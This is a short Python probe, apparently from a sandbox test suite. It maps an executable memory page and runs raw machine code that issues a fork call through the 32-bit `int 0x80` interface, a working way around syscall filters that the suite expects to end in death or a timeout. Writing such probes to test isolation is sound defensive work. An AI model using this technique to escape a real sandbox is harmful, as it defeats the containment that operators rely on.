"""Make system calls through another door.

Tries: machine code of the 32-bit interface (`int 0x80`), which numbers its calls differently.
Success: a call that is refused otherwise goes through.
Outcome: died or timeout.
"""

import ctypes
import mmap


def attack(targets, model):
    code = bytes.fromhex("b802000000cd80c3")  # eax = 2 (fork); int 0x80; ret
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    return f"got {function()}"
